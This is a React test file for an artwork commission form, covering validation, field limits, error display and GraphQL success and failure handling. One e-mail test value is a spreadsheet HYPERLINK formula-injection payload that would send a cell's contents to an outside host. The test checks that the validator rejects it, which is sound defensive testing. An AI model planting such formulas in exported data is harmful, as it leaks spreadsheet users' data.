import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { MockedProvider } from '@apollo/client/testing/react';
import { GraphQLError } from 'graphql';
import { FIELD_LIMITS, MESSAGES } from '@sawa/shared/domain';
import { RequestCommissionDocument } from '../gql/graphql';
import { CommissionForm } from './CommissionForm';
import { validateCommission, EMPTY_COMMISSION } from './commission-rules';

const FILLED = {
  name: 'Jean Bosco',
  email: 'jean@example.org',
  phone: '+250 788 000 111',
  country: 'Rwanda',
  artworkType: 'Painting',
  size: '50 x 70 cm',
  stylePreferences: 'Soft light',
  message: 'Two crowned cranes.',
};

const LABELS: [keyof typeof FILLED, string][] = [
  ['name', 'Name'],
  ['email', 'Email'],
  ['phone', 'Phone'],
  ['country', 'Country'],
  ['artworkType', 'Artwork type'],
  ['size', 'Size'],
  ['stylePreferences', 'Style preferences'],
  ['message', 'Message'],
];

const mock = (result: { data?: unknown; errors?: GraphQLError[] }) => ({
  request: { query: RequestCommissionDocument, variables: { input: { ...FILLED, website: '' }, referenceImage: null } },
  result,
});

async function fill(user: ReturnType<typeof userEvent.setup>) {
  for (const [key, label] of LABELS) await user.type(screen.getByLabelText(new RegExp(`^${label}`)), FILLED[key]);
}

describe('commission request rules', () => {
  it('requires every field but the image, checks e-mail and phone, and accepts only images', () => {
    expect(Object.keys(validateCommission(EMPTY_COMMISSION, null)).sort()).toEqual([
      'artworkType',
      'country',
      'email',
      'message',
      'name',
      'phone',
      'size',
      'stylePreferences',
    ]);
    expect(validateCommission({ ...FILLED, email: 'jean@', phone: 'call me' }, null)).toEqual({
      email: 'Enter a valid e-mail address.',
      phone: 'Enter a valid phone number.',
    });
    expect(validateCommission(FILLED, new File(['x'], 'notes.txt', { type: 'text/plain' }))).toEqual({
      referenceImage: 'The reference image must be a JPEG, PNG, WebP or AVIF image.',
    });
    expect(validateCommission(FILLED, new File(['x'], 'ref.png', { type: 'image/png' }))).toEqual({});
  });
});

describe('commission form', () => {
  it('bounds every field with the limits the server applies (FIELD_LIMITS), and refuses the e-mail addresses the server refuses', () => {
    render(
      <MockedProvider mocks={[]}>
        <CommissionForm />
      </MockedProvider>,
    );
    for (const [key, label] of LABELS) {
      const field = screen.getByLabelText<HTMLInputElement | HTMLTextAreaElement>(new RegExp(`^${label}`));
      expect([key, field.maxLength]).toEqual([key, FIELD_LIMITS.commission[key]]);
    }
    for (const email of ['a@b.c', '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"']) {
      expect(validateCommission({ ...FILLED, email }, null)).toEqual({ email: 'Enter a valid e-mail address.' });
    }
  });

  it('shows the errors beside the fields and sends nothing while they stand', async () => {
    const user = userEvent.setup();
    render(
      <MockedProvider mocks={[]}>
        <CommissionForm />
      </MockedProvider>,
    );
    await user.click(screen.getByRole('button', { name: 'Send Request' }));
    expect(screen.getByText('Name is required.')).toBeTruthy();
    expect(screen.getByLabelText(/^Name/).getAttribute('aria-invalid')).toBe('true');
    expect(document.activeElement?.id).toBe('commission-name');
  });

  it('on success shows the SPEC notice and resets every field', async () => {
    const user = userEvent.setup();
    render(
      <MockedProvider mocks={[mock({ data: { requestCommission: { __typename: 'CommissionReceipt', id: 'r1', message: MESSAGES.commission.sent } } })]}>
        <CommissionForm />
      </MockedProvider>,
    );
    await fill(user);
    await user.click(screen.getByRole('button', { name: 'Send Request' }));
    expect(await screen.findByText(MESSAGES.commission.sent)).toBeTruthy();
    for (const [, label] of LABELS) expect(screen.getByLabelText<HTMLInputElement>(new RegExp(`^${label}`)).value).toBe('');
  });

  it('on failure shows the SPEC failure text and keeps what was typed', async () => {
    const user = userEvent.setup();
    render(
      <MockedProvider mocks={[mock({ errors: [new GraphQLError('Too many requests. Please wait a minute and try again.')] })]}>
        <CommissionForm />
      </MockedProvider>,
    );
    await fill(user);
    await user.click(screen.getByRole('button', { name: 'Send Request' }));
    const alert = await screen.findByRole('alert');
    // Exactly the SPEC §8 sentence, nothing appended; the server's reason is a separate line.
    expect(alert.textContent).toBe('There was an error sending your request. Please try again later.');
    expect(MESSAGES.commission.failed).toBe('There was an error sending your request. Please try again later.');
    expect(screen.getByText('Too many requests. Please wait a minute and try again.')).not.toBe(alert);
    expect(alert.contains(screen.getByText('Too many requests. Please wait a minute and try again.'))).toBe(false);
    expect(screen.getByLabelText<HTMLInputElement>(/^Name/).value).toBe('Jean Bosco');
  });
});
